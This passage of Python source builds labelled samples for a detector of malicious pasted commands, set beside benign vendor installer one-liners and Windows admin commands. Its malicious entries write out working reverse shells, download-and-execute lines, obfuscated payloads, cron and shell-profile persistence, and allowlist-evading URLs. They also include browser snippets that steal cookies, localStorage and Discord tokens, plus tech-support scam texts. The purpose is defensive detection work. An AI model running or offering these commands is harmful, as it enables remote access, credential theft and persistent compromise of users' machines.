    "ncat 203.0.113.41 443 -e /bin/bash --ssl",
    "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.80 1234 >/tmp/f",
    "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.61:9443",
    'perl -e \'use Socket;$i="198.51.100.33";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};\'',
    "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"203.0.113.8:8080\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
    'ruby -rsocket -e \'c=TCPSocket.new("192.0.2.19",4444);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end\'',
    'php -r \'$s=fsockopen("198.51.100.18",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.29",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")\'',
)
mal(
    "reverse-shell",
    "windows",
    "malicious",
    "nc.exe -e cmd.exe 198.51.100.90 8443",
)

mal(
    "script-exec-url",
    "linux",
    "malicious",
    "python3 -c \"import urllib.request as u;exec(u.urlopen('https://files.example.net/p.py').read())\"",
    "python -c \"exec(__import__('urllib.request').request.urlopen('http://198.51.100.24/s').read().decode())\"",
    "python3 -c 'import requests;exec(requests.get(\"https://cdn-verify.test/a\").text)'",
    "perl -MLWP::Simple -e 'eval get(\"https://files.example.net/p.pl\")'",
    "ruby -ropen-uri -e 'eval URI.open(\"https://update-check.invalid/r.rb\").read'",
    "node -e \"require('https').get('https://cdn-verify.test/n.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\"",
)
mal(
    "script-exec-url",
    "windows",
    "malicious",
    "py -c \"import urllib.request;exec(urllib.request.urlopen('https://files.example.org/w').read())\"",
)
mal(
    "script-exec-url",
    "linux",
    "flagged",
    "curl -s https://update-check.invalid/x.py | python3 -",
)

_py_rev = "import socket,subprocess;s=socket.create_connection(('198.51.100.13',4444));subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())"
_py_dl = "import urllib.request,os;urllib.request.urlretrieve('https://files.example.net/b','/tmp/.b');os.chmod('/tmp/.b',0o755);os.system('/tmp/.b &')"
mal(
    "script-exec-b64",
    "linux",
    "malicious",
    f"python3 -c \"import base64;exec(base64.b64decode('{b64(_py_rev)}'))\"",
    f"python -c \"exec(__import__('base64').b64decode(b'{b64(_py_dl)}'))\"",
    f"python3 -c \"import zlib,base64;exec(zlib.decompress(base64.b64decode('{base64.b64encode(zlib_bytes(_py_dl.replace('/b', '/z').encode())).decode()}')))\"",
    f"echo {b64(_py_rev.replace('198.51.100.13', '203.0.113.13'))} | base64 -d | python3",
)

mal(
    "devshm-exec",
    "linux",
    "malicious",
    "cd /dev/shm && wget -q https://files.example.net/k -O .k && chmod +x .k && ./.k",
    "curl -s http://198.51.100.66/x -o /dev/shm/x; chmod +x /dev/shm/x; /dev/shm/x -d",
    "wget -qO /dev/shm/.sysd https://cdn-verify.test/sysd && chmod 700 /dev/shm/.sysd && nohup /dev/shm/.sysd >/dev/null 2>&1 &",
)

mal(
    "persistence",
    "linux",
    "malicious",
    '(crontab -l 2>/dev/null; echo "*/10 * * * * curl -fsSL https://files.example.net/c | sh") | crontab -',
    'echo "@reboot wget -qO- http://198.51.100.74/r | bash" | crontab -',
    "echo '* * * * * root curl -s https://update-check.invalid/p | bash' | sudo tee /etc/cron.d/sysupdate",
    "(crontab -l;printf '*/5 * * * * /usr/bin/curl -s https://cdn-verify.test/b|/bin/sh\\n')|crontab -",
    "echo 'curl -s https://198.51.100.3/b | bash >/dev/null 2>&1 &' >> ~/.bashrc",
    "mkdir -p ~/.config/systemd/user && printf '[Service]\\nExecStart=/bin/bash -c \"curl -s https://files.example.org/a | bash\"\\n[Install]\\nWantedBy=default.target\\n' > ~/.config/systemd/user/dbus-helper.service && systemctl --user enable --now dbus-helper",
)
mal(
    "persistence",
    "macos",
    "malicious",
    "echo 'curl -fsSL https://update-check.invalid/z | zsh >/dev/null 2>&1 &' >> ~/.zshrc",
)

mal(
    "allowlist-evasion",
    "linux",
    "malicious",
    "curl -fsSL https://sh.rustup.rs@cdn-verify.test/rustup-init.sh | sh",
    "curl -LsSf https://astral.sh.files.example.net/uv/install.sh | sh",
    "curl -s http://198.51.100.17/p | bash # https://sh.rustup.rs",
    "curl -fsSL https://files.example.net/i | sh  # official installer: https://bun.sh/install",
    'curl -fsSL "https://ollama.com:443@203.0.113.5/install.sh" | sh',
    "curl -fsSL https://get.docker.com%2Finstall@files.example.org/d.sh | sh",
    "curl -fsSL https://brew.sh.install.example/install.sh | bash",
)
mal(
    "allowlist-evasion",
    "macos",
    "malicious",
    '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com.update-check.invalid/Homebrew/install/HEAD/install.sh)"',
    '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com@cdn-verify.test/Homebrew/install/HEAD/install.sh)"',
)
mal(
    "allowlist-evasion",
    "linux",
    "flagged",
    "curl -fsSL https://bun.sh/install | bash && curl -s https://update-check.invalid/x | sh",
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y; wget -qO- https://cdn-verify.test/post.sh | bash",
    'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)" && sh -c "$(curl -fsSL https://mild-pond-3c.trycloudflare.com/p)"',
)

# =============================================================================================
# Malicious: browser console, bookmarklets
# =============================================================================================

_js_cookie = (
    "fetch('https://collect.example.net/c',{method:'POST',mode:'no-cors',body:document.cookie})"
)
mal(
    "js-bookmarklet",
    "browser",
    "malicious",
    f"javascript:(function(){{{_js_cookie}}})()",
    "javascript:void(new Image().src='https://198.51.100.12/p?c='+encodeURIComponent(document.cookie))",
    "javascript:(()=>{const d=JSON.stringify(localStorage);navigator.sendBeacon('https://stats.cdn-verify.test/b',d)})();",
    "javascript:var x=new XMLHttpRequest();x.open('POST','https://files.example.org/l');x.send(JSON.stringify({c:document.cookie,l:location.href,s:JSON.stringify(sessionStorage)}));",
    "javascript:fetch('https://api.update-check.invalid/u?t='+btoa(localStorage.getItem('token')))",
    f"JavaScript:eval(atob('{b64(_js_cookie)}'))",
    "javascript:"
    + "%28function%28%29%7B"
    + percent_all("fetch('https://hook.example.net/x?c='+document.cookie)")
    + "%7D%29%28%29",
)
mal(
    "js-bookmarklet",
    "browser",
    "flagged",
    "javascript:(function(){var s=document.createElement('script');s.src='https://verify-bot.pages.dev/verify.js';document.body.appendChild(s)})();",
)

mal(
    "console-theft",
    "browser",
    "malicious",
    'fetch("https://collect.example.com/api/v1/log", {method: "POST", body: JSON.stringify({cookies: document.cookie, url: location.href})});',
    'new Image().src = "https://203.0.113.77/i.gif?d=" + btoa(document.cookie);',
    'var r = new XMLHttpRequest(); r.open("GET", "https://files.example.net/s?ls=" + encodeURIComponent(JSON.stringify(localStorage)), true); r.send();',
    "Object.keys(localStorage).forEach(k => fetch('https://stats.example.org/k', {method:'POST', body: k + '=' + localStorage[k]}))",
    "navigator.sendBeacon('https://cdn-verify.test/b', document.cookie + '|' + localStorage.getItem('auth'))",
    "$.post('https://grab.example.net/x', {c: document.cookie, s: JSON.stringify(sessionStorage)})",
    "document.location='https://update-check.invalid/?c='+document.cookie",
)

mal(
    "discord-token-grab",
    "browser",
    "malicious",
    "window.webpackChunkdiscord_app.push([[Math.random()],{},r=>{for(const m of Object.values(r.c))if(m.exports?.default?.getToken)fetch('https://hook.example.net/t',{method:'POST',body:m.exports.default.getToken()})}]);",
    "let t;webpackChunkdiscord_app.push([[Symbol()],{},o=>{for(let e of Object.values(o.c))try{t=t||e.exports.default.getToken()}catch{}}]);new Image().src='https://198.51.100.45/?t='+t",
    "const tok = Object.values(webpackChunkdiscord_app.push([[Date.now()],{},r=>r.c])).map(m=>m?.exports?.default).find(x=>x?.getToken)?.getToken(); fetch('https://discord-verify.invalid/api', {method:'POST', body: JSON.stringify({tok})});",
    "var i=document.createElement('iframe');document.body.appendChild(i);fetch('https://captcha-bot.example/v',{method:'POST',body:i.contentWindow.localStorage.token})",
    'webpackChunkdiscord_app.push([["x"],{},q=>{Object.values(q.c).forEach(m=>{let g=m?.exports?.default?.getToken;g&&navigator.sendBeacon("https://old-moon-7d.workers.dev/",g())})}])',
    f"eval(atob('{b64('webpackChunkdiscord_app.push([[1],{},r=>{for(const m of Object.values(r.c))m.exports?.default?.getToken&&fetch(`https://hook.example.net/d?t=${m.exports.default.getToken()}`)}])')}'))",
)

mal(
    "remote-script-load",
    "browser",
    "flagged",
    "var s=document.createElement('script');s.src='https://cdn.files.example.net/helper.js';document.head.appendChild(s);",
    "$.getScript('https://update-check.invalid/a.js')",
    "import('https://nitro-claim.netlify.app/boost.mjs')",
    "fetch('https://raw.githubusercontent.com/free-robux-gen/tool/main/gen.js').then(r=>r.text()).then(eval)",
    'fetch("https://pastebin.com/raw/Lm3xQ8vB").then(r => r.text()).then(t => new Function(t)())',
)

_js_obf = "new Image().src='https://collect.example.net/o?c='+encodeURIComponent(document.cookie)"
mal(
    "js-obfuscation",
    "browser",
    "malicious",
    f"eval(atob('{b64(_js_obf)}'))",
    f"eval(String.fromCharCode({char_codes(_js_obf.replace('/o?', '/f?'))}))",
    f'Function(atob("{b64("fetch(`https://198.51.100.50/l`,{method:`POST`,body:JSON.stringify(localStorage)})")}"))()',
    f"[]['filter']['constructor'](atob('{b64('location.href=`https://update-check.invalid/?k=`+document.cookie')}'))()",
    f"setTimeout(decodeURIComponent('{percent_all(_js_obf.replace('/o?', '/p?'))}'))",
    f'eval("{js_hex_escape(_js_obf.replace("/o?", "/x?"))}")',
)

mal(
    "roblox-cookie",
    "browser",
    "malicious",
    "javascript:void(fetch('https://rbx-verify.invalid/log?c='+encodeURIComponent(document.cookie)))",
    "fetch('https://www.roblox.com/mobileapi/userinfo',{credentials:'include'}).then(r=>r.json()).then(u=>fetch('https://rbx-verify.invalid/u',{method:'POST',body:JSON.stringify(u)+document.cookie}))",
)
mal(
    "roblox-cookie",
    "windows",
    "malicious",
    'powershell -w h -c "$c=Get-Content \\"$env:LOCALAPPDATA\\Roblox\\LocalStorage\\RobloxCookies.dat\\" -Raw; iwr https://rbx-verify.invalid/up -Method POST -Body $c"',
)
_robla = (
    "_|WARNING:-DO-NOT-SHARE-THIS.--Sharing-this-will-allow-someone-to-log-in-as-you-and-to-steal-your-ROBUX-and-items.|_"
    + token("roblox-cookie", 64, "0123456789ABCDEF")
)
mal(
    "roblox-cookie",
    "windows",
    "flagged",
    "$session = New-Object Microsoft.PowerShell.Commands.WebRequestSession\n"
    '$session.UserAgent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"\n'
    f'$session.Cookies.Add((New-Object System.Net.Cookie(".ROBLOSECURITY", "{_robla}", "/", ".roblox.com")))\n'
    'Invoke-WebRequest -UseBasicParsing -Uri "https://www.roblox.com/my/settings/json" -WebSession $session',
)
mal("roblox-cookie", "any", "flagged", ".ROBLOSECURITY=" + _robla)

# =============================================================================================
# Malicious: ConsentFix (pasting an OAuth redirect URL with an authorization code)
# =============================================================================================

_b64c = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"


def _aad_code(seed: str) -> str:
    return f"1.A{token(seed + 'a', 3, _b64c)}" + token(seed, 420, _b64c)


def _uuid(seed: str) -> str:
    h = hashlib.sha256(seed.encode()).hexdigest()
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"


mal(
    "consentfix",
    "browser",
    "flagged",
    f"http://localhost:8400/?code=0.AXoA{token('cf1', 380, _b64c)}&state={token('st1', 16, _b64c)}&session_state={_uuid('ss1')}",
    f"http://localhost:53214/?code={_aad_code('cf2')}&client_info={b64url(json.dumps({'uid': _uuid('u2'), 'utid': _uuid('t2')}).encode())}&state={token('st2', 20, _b64c)}&session_state={_uuid('ss2')}#",
    f"http://127.0.0.1:8400/redirect?code=0.ASsA{token('cf3', 350, _b64c)}&state={token('st3', 12, _b64c)}&session_state={_uuid('ss3')}",
    f"http://localhost:50012/callback?code=4%2F0Aean{token('g4', 70, _b64c)}&scope=email%20profile%20openid&authuser=0&prompt=consent",
    f"http://localhost:8080/oauth2callback?state={token('st5', 30, _b64c)}&code=4/0AVG7fiQ{token('g5', 60, _b64c)}&scope=https://www.googleapis.com/auth/drive",
    f"http://localhost/?code=0.ATEA{token('cf6', 360, _b64c)}&session_state={_uuid('ss6')}",
    f"Here is the URL from my address bar: http://localhost:8400/?code=0.AUcA{token('cf7', 300, _b64c)}&state={token('st7', 16, _b64c)}&session_state={_uuid('ss7')}",
    f"https://login.microsoftonline.com/common/oauth2/nativeclient?code=0.AXEA{token('cf8', 340, _b64c)}&session_state={_uuid('ss8')}",
)

# =============================================================================================
# Malicious: fake tech support (brand + phone number + scare words)
# =============================================================================================

mal(
    "tech-support-scam",
    "any",
    "flagged",
    "WARNING! Your computer has been infected with a Trojan virus. Your personal data, passwords and banking details are at risk. Do not restart or shut down your PC. Call Microsoft Support immediately at +1-844-555-0147 (Toll Free).",
    "Windows Defender Security Center\n\n** Access to this PC has been blocked for security reasons **\nError code: 0x800VDS\nThreat detected: Trojan Spyware\nContact Windows Support: 1-888-555-0193",
    "Apple Security Alert: Your iPhone has been compromised by spyware. Your iCloud account will be locked in 5 minutes. Call Apple Care at +1 (877) 555-0110 now to prevent data loss.",
    "McAfee Total Protection: Your subscription has expired and 5 viruses were found! Your PC is at risk of hackers. Renew now or call our billing department: 1-800-555-0166",
    "Thank you for your payment of $499.99 for Norton 360 Deluxe auto-renewal. If you did not authorize this charge, call our refund department at +1 808-555-0173 within 24 hours or the amount will be debited.",
    "Microsoft has detected suspicious activity on your device (Error #DW6VS36). Your files will be deleted. To remove the virus, press Win+R, paste the code and call a certified technician at 1-855-555-0121.",
    "PayPal Security: Your account has been suspended due to unauthorized access from a hacked device. Call PayPal support immediately at 1.877.555.0188 to restore access.",
    "\u00a1ALERTA DE SEGURIDAD! Su ordenador est\u00e1 infectado con un virus peligroso. No apague el equipo. Llame al soporte t\u00e9cnico de Microsoft: +34 900 555 014",
)

# =============================================================================================
# Benign: installer one-liners as vendors document them
# =============================================================================================

ben(
    "install-oneliner",
    "macos",
    '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/uninstall.sh)"',
    'echo >> ~/.zprofile && echo \'eval "$(/opt/homebrew/bin/brew shellenv)"\' >> ~/.zprofile && eval "$(/opt/homebrew/bin/brew shellenv)"',
    'sh -c "$(curl -fsSL https://install.ohmyz.sh/)"',
    'sh -c "$(wget https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh -O -)"',
    "curl -s https://ohmyposh.dev/install.sh | bash -s",
    "brew install pkgx || curl https://pkgx.sh | sh",
    "brew install --cask docker",
    "brew install supabase/tap/supabase",
    "brew install flyctl",
    'curl "https://awscli.amazonaws.com/AWSCLIV2.pkg" -o "AWSCLIV2.pkg" && sudo installer -pkg AWSCLIV2.pkg -target /',
    "curl -f https://zed.dev/install.sh | sh",
)
ben(
    "install-oneliner",
    "linux",
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
    "curl https://sh.rustup.rs -sSf | sh -s -- -y --default-toolchain nightly --profile minimal",
    "curl -LsSf https://astral.sh/uv/0.5.11/install.sh | sh",
    'curl -LsSf https://astral.sh/uv/install.sh | env UV_INSTALL_DIR="/opt/uv" sh',
    "curl -LsSf https://astral.sh/ruff/install.sh | sh",
    "curl -LsSf https://astral.sh/ruff/0.8.2/install.sh | sh",
    'curl -fsSL https://bun.sh/install | bash -s "bun-v1.1.38"',
    "curl -fsSL https://deno.land/install.sh | sh",
    "curl -fsSL https://deno.land/install.sh | sh -s v2.0.6",
    "wget -qO- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash",
    "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.3/install.sh | bash",
    "curl -fsSL https://fnm.vercel.app/install | bash -s -- --skip-shell",
    "curl https://get.volta.sh | bash",
    "curl https://get.volta.sh | bash -s -- --skip-setup",
    "curl -fsSL https://get.pnpm.io/install.sh | sh -",
    "wget -qO- https://get.pnpm.io/install.sh | sh -",
    "curl -fsSL https://get.docker.com | sh",
    "curl -fsSL https://get.docker.com -o install-docker.sh && sudo sh install-docker.sh --dry-run",
    "curl -fsSL https://ollama.com/install.sh | OLLAMA_VERSION=0.5.7 sh",
    "curl -sS https://starship.rs/install.sh | sh -s -- -y",
    "curl -sSfL https://raw.githubusercontent.com/ajeetdsouza/zoxide/main/install.sh | sh",
    "curl --proto '=https' --tlsv1.2 -LsSf https://setup.atuin.sh | sh",
    "curl --proto '=https' --tlsv1.2 -LsSf https://setup.atuin.sh | sh -s -- --non-interactive",
    "curl https://mise.run | sh",
    "curl https://mise.run | MISE_INSTALL_PATH=/usr/local/bin/mise sh",
    "curl https://pyenv.run | bash",
    "curl -sSL https://install.python-poetry.org | POETRY_HOME=/etc/poetry python3 -",
    "curl -fsSL https://pixi.sh/install.sh | sh",
    'curl -s "https://get.sdkman.io" | bash',
    'curl -s "https://get.sdkman.io?rcupdate=false" | bash',
    "sh <(curl -L https://nixos.org/nix/install) --daemon",
    "curl --proto '=https' --tlsv1.2 -sSf -L https://install.determinate.systems/nix | sh -s -- install",
    'curl -sfL https://get.k3s.io | INSTALL_K3S_EXEC="--disable=traefik" sh -',
    "curl -sfL https://get.k3s.io | K3S_URL=https://k3s-server.lan:6443 K3S_TOKEN=$NODE_TOKEN sh -",
    "curl https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash",
    "curl -fsSL -o get_helm.sh https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 && chmod 700 get_helm.sh && ./get_helm.sh",
    "curl -fsSL https://tailscale.com/install.sh | sh && sudo tailscale up",
    "curl https://rclone.org/install.sh | sudo bash",
    "sudo -v ; curl https://rclone.org/install.sh | sudo bash -s beta",
    'sh -c "$(curl -fsLS get.chezmoi.io)"',
    'sh -c "$(curl -fsLS get.chezmoi.io/lb)"',
    "curl -L https://foundry.paradigm.xyz | bash && foundryup",
    "wget -O basic-install.sh https://install.pi-hole.net && sudo bash basic-install.sh",
    "curl https://sdk.cloud.google.com | bash -s -- --disable-prompts --install-dir=$HOME",
    "curl -sL https://aka.ms/InstallAzureCLIDeb | sudo bash",
    'curl "https://awscli.amazonaws.com/awscli-exe-linux-x86_64.zip" -o "awscliv2.zip" && unzip awscliv2.zip && sudo ./aws/install',
    "curl -sSL https://dot.net/v1/dotnet-install.sh | bash /dev/stdin --channel 8.0",
    "curl -fsSL https://deb.nodesource.com/setup_22.x | sudo -E bash - && sudo apt-get install -y nodejs",
    "curl -fsSL https://rpm.nodesource.com/setup_20.x | sudo bash -",
    "curl -sSf https://rye.astral.sh/get | bash",
    "curl -L --proto '=https' --tlsv1.2 -sSf https://raw.githubusercontent.com/cargo-bins/cargo-binstall/main/install-from-binstall-release.sh | bash",
    "curl https://get.wasmer.io -sSfL | sh",
    'curl https://get.wasmer.io -sSfL | sh -s "v4.3.0"',
    "curl https://wasmtime.dev/install.sh -sSf | bash",
    "curl -L https://fly.io/install.sh | sh",
    "curl -L https://fly.io/install.sh | sh -s pre",
    "bash <(curl -fsSL cli.new)",
    "curl -fsSL https://raw.githubusercontent.com/spicetify/cli/main/install.sh | sh",
    "curl -fsSL https://claude.ai/install.sh | bash",
    "curl -fsSL https://install.julialang.org | sh",
    "curl --proto '=https' --tlsv1.2 -sSf https://get-ghcup.haskell.org | sh",
    "sudo -v && wget -nv -O- https://download.calibre-ebook.com/linux-installer.sh | sudo sh /dev/stdin",
    "curl -fsSL https://pkgs.tailscale.com/stable/ubuntu/noble.noarmor.gpg | sudo tee /usr/share/keyrings/tailscale-archive-keyring.gpg >/dev/null",
    "sudo apt install -y ripgrep fd-find bat",
    "sudo dnf install -y git-core gcc make",
    "sudo pacman -Syu --needed base-devel git",
    "sudo zypper install -y htop",
    "apk add --no-cache curl ca-certificates",
    "flatpak install -y flathub com.spotify.Client",
    "sudo snap install helm --classic",
    "npm i -g vercel",
    "npm install netlify-cli -g",
    "npm i -g @railway/cli",
    "npx supabase init",
    "cargo install --locked ripgrep",
    "go install golang.org/x/tools/gopls@latest",
    "pipx install poetry",
    "uv tool install ruff",
)
ben(
    "install-oneliner",
    "windows",
    "Invoke-RestMethod -Uri https://get.scoop.sh | Invoke-Expression",
    'iex "& {$(irm get.scoop.sh)} -RunAsAdmin"',
    "irm get.scoop.sh -outfile 'install.ps1'",
    "Set-ExecutionPolicy Bypass -Scope Process -Force; [System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))"
    + "; choco install -y git",
    'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/0.5.11/install.ps1 | iex"',
    'powershell -c "irm bun.sh/install.ps1 | iex"',
    "Invoke-WebRequest https://get.pnpm.io/install.ps1 -UseBasicParsing | Invoke-Expression",
    "irm https://christitus.com/win | iex",
    "iwr -useb https://christitus.com/win | iex",
    "irm https://massgrave.dev/get | iex",
    "iex (curl.exe -s --doh-url https://1.1.1.1/dns-query https://get.activated.win | Out-String)",
    "iwr -useb https://raw.githubusercontent.com/spicetify/marketplace/main/resources/install.ps1 | iex",
    'Set-ExecutionPolicy Unrestricted -Scope Process; iex (iwr "https://raw.githubusercontent.com/cargo-bins/cargo-binstall/main/install-from-binstall-release.ps1").Content',
    "iwr https://win.wasmer.io -useb | iex",
    'pwsh -Command "iwr https://fly.io/install.ps1 -useb | iex"',
    "irm https://claude.ai/install.ps1 | iex",
    'iex "& { $(irm https://aka.ms/install-powershell.ps1) } -UseMSI"',
    "&powershell -NoProfile -ExecutionPolicy unrestricted -Command \"[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12; &([scriptblock]::Create((Invoke-WebRequest -UseBasicParsing 'https://dot.net/v1/dotnet-install.ps1'))) -Channel 8.0\"",
    "$ProgressPreference = 'SilentlyContinue'; Invoke-WebRequest -Uri https://aka.ms/installazurecliwindowsx64 -OutFile .\\AzureCLI.msi; Start-Process msiexec.exe -Wait -ArgumentList '/I AzureCLI.msi /quiet'; Remove-Item .\\AzureCLI.msi",
    "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi",
    "(Invoke-WebRequest -Uri https://install.python-poetry.org -UseBasicParsing).Content | py -",
    'Invoke-WebRequest -UseBasicParsing -Uri "https://raw.githubusercontent.com/pyenv-win/pyenv-win/master/pyenv-win/install-pyenv-win.ps1" -OutFile "./install-pyenv-win.ps1"; &"./install-pyenv-win.ps1"',
    "iex \"&{$(irm 'https://get.chezmoi.io/ps1')} -b '~/bin'\"",
    ". { iwr -useb https://boxstarter.org/bootstrapper.ps1 } | iex; Get-Boxstarter -Force",
    "winget install -e Atuinsh.Atuin",
    "winget install --id Microsoft.PowerShell --source winget",
    "winget install JanDeDobbeleer.OhMyPosh -s winget",
    "winget install Volta.Volta",
    "winget install --id Rustlang.Rustup",
    "winget install --id TeamViewer.TeamViewer -e",
    "winget upgrade --all --silent --accept-package-agreements",
    "choco install -y nodejs-lts python git vscode",
    "choco upgrade all -y",
    "scoop bucket add supabase https://github.com/supabase/scoop-bucket.git; scoop install supabase",
    "scoop install railway",
    "Install-Module -Name PSReadLine -Scope CurrentUser -Force -SkipPublisherCheck",
)

# =============================================================================================
# Benign: admin commands that use the same programs as attacks, locally
# =============================================================================================

ben(
    "admin-command",
    "windows",
    'msiexec /i "C:\\Installers\\7z2408-x64.msi" /qn /norestart',
    "msiexec /x {23170F69-40C1-2702-2408-000001000000} /qn",
    'msiexec /i C:\\Temp\\GoogleChromeStandaloneEnterprise64.msi /qn /l*v "C:\\Temp\\chrome-install.log"',
    "Start-Process msiexec.exe -ArgumentList '/i C:\\Temp\\agent.msi /qn' -Wait",
    "rundll32.exe shell32.dll,Control_RunDLL ncpa.cpl",
    "rundll32 printui.dll,PrintUIEntry /il",
    "rundll32.exe user32.dll,LockWorkStation",
    "rundll32.exe keymgr.dll,KRShowKeyMgr",
    "rundll32.exe InetCpl.cpl,ClearMyTracksByProcess 255",
    "certutil -hashfile C:\\Users\\jdoe\\Downloads\\ubuntu-24.04.1-desktop-amd64.iso SHA256",
    "certutil -hashfile setup.msi MD5",
    "certutil -decode server_cert.b64 server_cert.cer",
    "certutil -encode report.pdf report.b64",
    "certutil -store my",
    "certutil -verify -urlfetch C:\\certs\\server.cer",
    "bitsadmin /list /allusers /verbose",
    "bitsadmin /info backupjob /verbose",
    "mshta.exe C:\\Tools\\Inventory\\inventory.hta",
    'regsvr32 /s "C:\\Program Files\\Contoso\\Addin\\ContosoAddin.dll"',
    "regsvr32 /u C:\\Windows\\System32\\msxml3.dll",
    'powershell -NoProfile -ExecutionPolicy Bypass -File "C:\\Scripts\\Deploy.ps1" -Environment Staging',
    "powershell.exe -ExecutionPolicy RemoteSigned -File .\\Get-DiskReport.ps1",
    "Set-ExecutionPolicy RemoteSigned -Scope CurrentUser",
    "Get-ChildItem -Path C:\\Logs -Recurse -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item",
    "Get-Service | Where-Object Status -eq 'Running' | Export-Csv services.csv -NoTypeInformation",
    "Get-WinEvent -LogName Security -MaxEvents 50 | Where-Object Id -eq 4625 | Format-List TimeCreated, Message",
    "Get-MpComputerStatus | Select-Object AMServiceEnabled, RealTimeProtectionEnabled, AntivirusSignatureLastUpdated",
    "Update-MpSignature; Start-MpScan -ScanType QuickScan",
    "Get-FileHash .\\SetupTool.exe -Algorithm SHA256",
    "Invoke-RestMethod -Uri https://api.github.com/repos/microsoft/terminal/releases/latest | Select-Object tag_name, published_at",
    "Invoke-WebRequest -Uri https://github.com/PowerShell/PowerShell/releases/download/v7.4.6/PowerShell-7.4.6-win-x64.msi -OutFile PowerShell-7.4.6-win-x64.msi",
    "(Invoke-WebRequest https://intranet.contoso.com/health -UseBasicParsing).StatusCode",
    "Start-BitsTransfer -Source \\\\fileserver\\iso\\Win11_24H2_English_x64.iso -Destination D:\\ISO\\",
    '[Convert]::ToBase64String([IO.File]::ReadAllBytes("C:\\certs\\client.pfx")) | Set-Clipboard',
    '[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("SGVsbG8sIFdvcmxkIQ=="))',
    "Test-NetConnection -ComputerName github.com -Port 443",
    "Resolve-DnsName -Type TXT _dmarc.contoso.com",
    "Clear-DnsClientCache; ipconfig /registerdns",
    'reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall /s /f "Google Chrome"',
    "reg export HKCU\\Software\\SimonTatham\\PuTTY\\Sessions putty-sessions.reg",
    'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v OneDrive /t REG_SZ /d "\\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\\" /background" /f',
    'schtasks /query /fo LIST /v | findstr /i "TaskName"',
    'schtasks /run /tn "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag"',
    'schtasks /create /tn "Nightly Backup" /tr "C:\\Scripts\\backup.bat" /sc daily /st 02:00 /ru SYSTEM',
    'netsh advfirewall firewall add rule name="Allow 8080" dir=in action=allow protocol=TCP localport=8080',
    'netsh wlan show profile name="HomeWiFi" key=clear',
    "netsh int ip reset C:\\Temp\\resetlog.txt",
    'ipconfig /all | findstr /i "DNS Servers"',
    "ipconfig /release && ipconfig /renew",
    "nslookup -type=mx contoso.com",
    "nslookup -type=TXT example.com 8.8.8.8",
    "nslookup github.com 1.1.1.1",
    "ping -n 10 192.168.1.1",
    "tracert -d 8.8.8.8",
    "pathping -n www.bing.com",
    "sfc /verifyonly",
    "DISM /Online /Cleanup-Image /ScanHealth",
    "chkdsk C: /f /r",
    "wsl --install -d Ubuntu-24.04",
    "wsl --update && wsl -l -v",
    "net use Z: \\\\fileserver\\projects /persistent:yes",
    "net use \\\\nas01\\backup /user:CORP\\jdoe",
    "pushd \\\\fileserver\\public\\templates",
    "\\\\fileserver\\scans",
    "gpupdate /force",
    "gpresult /r /scope computer",
    "whoami /groups /fo list",
    'systeminfo | findstr /B /C:"OS Name" /C:"OS Version"',
    'tasklist /svc /fi "imagename eq svchost.exe"',
    "taskkill /IM Teams.exe /F",
    'shutdown /r /t 60 /c "Restarting for updates"',
    'setx JAVA_HOME "C:\\Program Files\\Eclipse Adoptium\\jdk-21.0.5.11-hotspot"',
    "powercfg /batteryreport /output C:\\Temp\\battery.html",
    "manage-bde -status C:",
    "robocopy C:\\Data \\\\nas01\\backup\\Data /MIR /R:2 /W:5 /LOG:C:\\Temp\\robocopy.log",
    'icacls C:\\Shared /grant "CORP\\Finance:(OI)(CI)M"',
    "wmic logicaldisk get name,freespace,size",
    "Get-CimInstance Win32_OperatingSystem | Select-Object Caption, Version, LastBootUpTime",
    'cmd /c "for /f "tokens=2 delims==" %i in (\'wmic os get caption /value\') do @echo %i"',
    "for /f \"tokens=*\" %a in ('nslookup example.com ^| findstr Address') do @echo %a",
    'for %f in (*.log) do type "%f" >> combined.txt',
    "explorer.exe shell:startup",
    "%localappdata%\\Temp",
